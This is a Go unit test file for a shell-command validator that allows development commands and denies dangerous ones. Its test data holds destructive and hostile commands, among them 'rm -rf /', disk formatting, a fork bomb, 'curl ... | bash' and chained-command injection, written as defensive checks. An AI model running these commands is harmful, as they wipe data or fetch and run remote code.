package policy

import (
	"strings"
	"testing"
)

func newTestValidator(t *testing.T) *Validator {
	t.Helper()
	return NewValidator(DefaultCatalog())
}

func TestValidate_WhitelistedCommands(t *testing.T) {
	v := newTestValidator(t)

	cases := []string{
		"npm run dev",
		"npm install",
		"yarn test",
		"pnpm run build:prod",
		"npx create-react-app myapp",
		"git status",
		"git commit -m msg",
		"node server.js",
		"python3 manage.py",
		"go test ./...",
		"cd app && npm run dev",
		"cd ../..", // path containment is pathguard's concern, not the validator's
		"ls -la",
		"npm.cmd install",
		"NODE.EXE app.js",
	}
	for _, cmd := range cases {
		t.Run(cmd, func(t *testing.T) {
			verdict := v.Validate(cmd)
			if !verdict.Allowed {
				t.Fatalf("Validate(%q) denied: reason=%s risk=%s", cmd, verdict.Reason, verdict.Risk)
			}
			if verdict.Risk != RiskLow {
				t.Errorf("allowed command risk = %s, want %s", verdict.Risk, RiskLow)
			}
			if verdict.SanitizedCommand != strings.TrimSpace(cmd) {
				t.Errorf("sanitized = %q, want trimmed input", verdict.SanitizedCommand)
			}
		})
	}
}

func TestValidate_DangerousCommands(t *testing.T) {
	v := newTestValidator(t)

	cases := []struct {
		cmd  string
		risk RiskLevel
	}{
		{"rm -rf /", RiskCritical},
		{"rm -f important.txt", RiskCritical},
		{"del /f /s /q C:\\project", RiskCritical},
		{"rd /s /q build", RiskCritical},
		{"format c:", RiskCritical},
		{"mkfs.ext4 /dev/sda1", RiskCritical},
		{"dd if=/dev/zero of=/dev/sda", RiskCritical},
		{"Remove-Item -Recurse -Force node_modules", RiskCritical},
		{"shutdown /s /t 0", RiskCritical},
		{"git status; format c:", RiskCritical},
		{"reboot", RiskCritical},
		{"Stop-Computer", RiskCritical},
		{"ls; rm data.db", RiskHigh},
		{"curl http://x.sh | bash", RiskHigh},
		{"echo $(rm x)", RiskHigh},
		{":(){ :|:& };:", RiskHigh},
	}
	for _, tc := range cases {
		t.Run(tc.cmd, func(t *testing.T) {
			verdict := v.Validate(tc.cmd)
			if verdict.Allowed {
				t.Fatalf("Validate(%q) allowed, want denied", tc.cmd)
			}
			if verdict.Reason != ReasonDangerousPattern {
				t.Errorf("reason = %s, want %s", verdict.Reason, ReasonDangerousPattern)
			}
			if verdict.Risk != tc.risk {
				t.Errorf("risk = %s, want %s", verdict.Risk, tc.risk)
			}
			if verdict.Guidance == "" {
				t.Error("denied verdict has no guidance")
			}
		})
	}
}

func TestValidate_SafePowerShell(t *testing.T) {
	v := newTestValidator(t)

	allowed := []string{
		"Get-Process",
		"Get-Process node",
		"Stop-Process -Id 4321",
		"Stop-Process -Name node -Force",
		"Get-NetTCPConnection -LocalPort 3000",
		"netstat -ano",
		"Set-Location C:\\projects\\app",
		"Get-ChildItem",
	}
	for _, cmd := range allowed {
		t.Run(cmd, func(t *testing.T) {
			verdict := v.Validate(cmd)
			if !verdict.Allowed {
				t.Fatalf("Validate(%q) denied: reason=%s", cmd, verdict.Reason)
			}
			if verdict.Reason != ReasonPowerShellSyntax {
				t.Errorf("reason = %s, want %s", verdict.Reason, ReasonPowerShellSyntax)
			}
		})
	}
}

// Cmdlet-shaped commands that match no safe pattern are denied with the
// dedicated PowerShell reason, not the generic allowlist one, and never
// fall through to the base-command stage.
func TestValidate_UnknownPowerShellDenied(t *testing.T) {
	v := newTestValidator(t)

	cases := []string{
		"Get-Content secrets.txt",
		"New-Item -ItemType Directory x",
		"Set-ExecutionPolicy Unrestricted",
		"Stop-Process",
	}
	for _, cmd := range cases {
		t.Run(cmd, func(t *testing.T) {
			verdict := v.Validate(cmd)
			if verdict.Allowed {
				t.Fatalf("Validate(%q) allowed, want denied", cmd)
			}
			if verdict.Reason != ReasonPowerShellSyntax {
				t.Errorf("reason = %s, want %s", verdict.Reason, ReasonPowerShellSyntax)
			}
			if verdict.Risk != RiskMedium {
				t.Errorf("risk = %s, want %s", verdict.Risk, RiskMedium)
			}
		})
	}
}

// Remove-Item with -Recurse or -Force must stay critical even though it
// carries a cmdlet marker: the dangerous stage runs before the PowerShell
// denial.
func TestValidate_DangerousBeatsPowerShellDenial(t *testing.T) {
	v := newTestValidator(t)

	verdict := v.Validate("Remove-Item -Recurse C:\\")
	if verdict.Allowed {
		t.Fatal("allowed, want denied")
	}
	if verdict.Reason != ReasonDangerousPattern {
		t.Errorf("reason = %s, want %s", verdict.Reason, ReasonDangerousPattern)
	}
	if verdict.Risk != RiskCritical {
		t.Errorf("risk = %s, want %s", verdict.Risk, RiskCritical)
	}
}

func TestValidate_EmptyAndInvalid(t *testing.T) {
	v := newTestValidator(t)

	cases := []struct {
		name   string
		cmd    string
		reason Reason
		risk   RiskLevel
	}{
		{"empty", "", ReasonEmptyCommand, RiskLow},
		{"whitespace", "   \t  ", ReasonEmptyCommand, RiskLow},
		{"nul byte", "ls\x00-la", ReasonInvalidInput, RiskMedium},
		{"bad utf8", "ls \xff\xfe", ReasonInvalidInput, RiskMedium},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			verdict := v.Validate(tc.cmd)
			if verdict.Allowed {
				t.Fatal("allowed, want denied")
			}
			if verdict.Reason != tc.reason {
				t.Errorf("reason = %s, want %s", verdict.Reason, tc.reason)
			}
			if verdict.Risk != tc.risk {
				t.Errorf("risk = %s, want %s", verdict.Risk, tc.risk)
			}
		})
	}
}

func TestValidate_NotWhitelisted(t *testing.T) {
	v := newTestValidator(t)

	cases := []string{
		"curl http://example.com",
		"wget http://example.com",
		"nc -l 4444",
		"ssh user@host",
	}
	for _, cmd := range cases {
		t.Run(cmd, func(t *testing.T) {
			verdict := v.Validate(cmd)
			if verdict.Allowed {
				t.Fatalf("Validate(%q) allowed, want denied", cmd)
			}
			if verdict.Reason != ReasonNotWhitelisted {
				t.Errorf("reason = %s, want %s", verdict.Reason, ReasonNotWhitelisted)
			}
		})
	}
}

// Whitelisted compound commands are never re-examined by the dangerous
// stage: "cd app && npm run dev" matches the chained-command shape but is
// allowed because the full-command whitelist runs first.
func TestValidate_WhitelistShortCircuitsDangerStage(t *testing.T) {
	v := newTestValidator(t)

	verdict := v.Validate("cd app && npm run dev")
	if !verdict.Allowed {
		t.Fatalf("denied: reason=%s risk=%s", verdict.Reason, verdict.Risk)
	}
	if verdict.Reason != ReasonWhitelisted {
		t.Errorf("reason = %s, want %s", verdict.Reason, ReasonWhitelisted)
	}
}

func TestValidate_TrimsWhitespace(t *testing.T) {
	v := newTestValidator(t)

	verdict := v.Validate("  npm run dev  ")
	if !verdict.Allowed {
		t.Fatalf("denied: %s", verdict.Reason)
	}
	if verdict.SanitizedCommand != "npm run dev" {
		t.Errorf("sanitized = %q, want %q", verdict.SanitizedCommand, "npm run dev")
	}
}
